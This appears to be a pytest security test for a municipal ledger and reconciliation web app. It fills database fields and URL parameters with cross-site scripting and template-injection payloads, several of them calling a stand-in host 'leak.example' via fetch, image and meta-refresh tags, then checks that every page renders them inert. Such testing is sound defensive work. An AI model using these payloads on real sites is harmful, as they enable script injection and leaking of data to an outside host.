"""Payloads in every text that comes from a file, a clerk or an address: inert on every page."""

from urllib.parse import quote, urlencode

import pytest

from pages.conftest import change
from pages.cross_city import add_items, explain
from pages.walk import kind, walk

PAYLOADS = (
    "<script>document.title='RAN'</script>",
    "</title></style></script><img src=http://leak.example/a onerror=\"document.title='RAN'\">",
    "\" onmouseover='document.title=1' autofocus onfocus='document.title=1' style=\"background:url(http://leak.example/b)",
    "'><svg/onload=fetch('http://leak.example/c')>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe><base href=http://leak.example/>",
    "{{ 7 * 7 }}{% raw %}{0}{title}%(x)s<link rel=stylesheet href=http://leak.example/d.css>",
    "javascript:alert(1)<form action=http://leak.example/e><button autofocus>",
    "]]>--><!--<meta http-equiv=refresh content='0;url=http://leak.example/g'>",
    "甲\u202e乙\u2066丙\x1b\x07丁\u200b\ufeff",
)
HOSTILE = " ".join(PAYLOADS)
GOT_IN = """
    iframe, base, meta[http-equiv], [onerror], [onload], [onmouseover], [onfocus], [autofocus], [style],
    [src*="leak"], [href*="leak"], [action*="leak"], [href^="javascript"], script:not([src])
"""
TEXTS = {
    "ledger.receipt": ("file_name",),
    "ledger.submission": ("reason", "filler", "telephone"),
    "ledger.sheet_count": ("sheet",),
    "findings.finding": ("message", "fix", "sheet", "cell", "column_title", "field", "value"),
    "city.city_commitments": ("wording", "area_name"),
    "city.city_submissions": ("area_name",),
    "city.release": ("note",),
}


@pytest.fixture
def hostile_city(warehouse):
    for table, columns in TEXTS.items():
        change(f"UPDATE {table} SET " + ", ".join(f"{column} = :hostile" for column in columns), hostile=HOSTILE)
    change(
        "UPDATE findings.finding SET severity = 'warning', warning_id = 'w' || position, explanation = :hostile"
        " WHERE position % 2 = 1",
        hostile=HOSTILE,
    )
    change(
        "INSERT INTO ledger.lock_exception (form, district_code, period, until, reason, granted_by) VALUES"
        " ('dropout_control', '210203', '2020-05', '2020-07-30', :hostile, :hostile)",
        hostile=HOSTILE,
    )
    change(
        "INSERT INTO ledger.reminder (form, district_code, period, note, reminded_by, reminded_at) VALUES"
        " ('dropout_control', '210203', '2020-05', left(:hostile, 100), :hostile, now())",
        hostile=HOSTILE,
    )
    add_items()
    change("UPDATE identities.hardship_student SET student_name = :hostile", hostile=HOSTILE)
    explain(1, words=HOSTILE)
    change(
        "INSERT INTO reconciliation.ruling (item_id, spell, closes, reason, ruled_by)"
        " VALUES (1, 1, false, :hostile, :hostile)",
        hostile=HOSTILE,
    )


@pytest.mark.usefixtures("hostile_city")
def test_texts_of_files_are_inert_on_every_page(client_as, visitor, served):
    pages = walk(client_as("engineer"))
    told = {path: page for path, page in pages.items() if "leak.example" in page}
    # Files, findings, remarks and explanations are told, so that their being inert means something.
    assert {kind(path) for path in told} >= {"/progress", "/submissions", "/submissions/0", "/city", "/worklist/0"}
    view, complaints = visitor()
    for path in {kind(path): path for path in told}.values():
        view.goto(served.page(path))
        view.mouse.move(300, 300)
        view.keyboard.press("Tab")
        assert view.locator(GOT_IN).count() == 0, path
        assert "RAN" not in view.title()
        assert view.title() != "1"
    assert complaints == []


def test_texts_of_addresses_are_inert_on_every_page(client_as):
    client = client_as("engineer")
    asked = {
        "progress": ("period", "form", "zone", "district", "state", "extended", "reminded"),
        "progress/extension": ("form", "district", "period"),
        "worklist": ("rule", "district", "age", "state", "page", "ruled", "changed", "already"),
        "submissions": ("district", "form", "period", "outcome", "unidentified", "since", "page"),
        "submissions/1": ("rule", "page", "done", "run"),
        "quality": ("from", "to", "form", "zone", "district", "severity", "heat", "rules", "rule"),
        "city": ("release", "night", "area", "status", "item"),
        "city/tables/city_submissions": ("release", "night", "period", "level", "measure", "by", "key.form"),
        "city/trace": ("table", "column", "period", "area", "release", "key.reason"),
    }
    for path, names in asked.items():
        alone = ({name: text} for name in names for text in (HOSTILE, "\0"))
        for query in [dict.fromkeys(names, HOSTILE), *alone]:
            answer = client.get(f"{path}?{urlencode(query)}", follow_redirects=True)
            assert answer.status_code in (200, 400, 404), f"{path} {list(query)} {answer.status_code}"
            assert not any(payload in answer.text for payload in PAYLOADS if "<" in payload), f"{path} {list(query)}"
    for payload in PAYLOADS:
        answer = client.get(f"submissions/{quote(payload, safe='')}")
        assert answer.status_code in (400, 404)
        assert payload not in answer.text
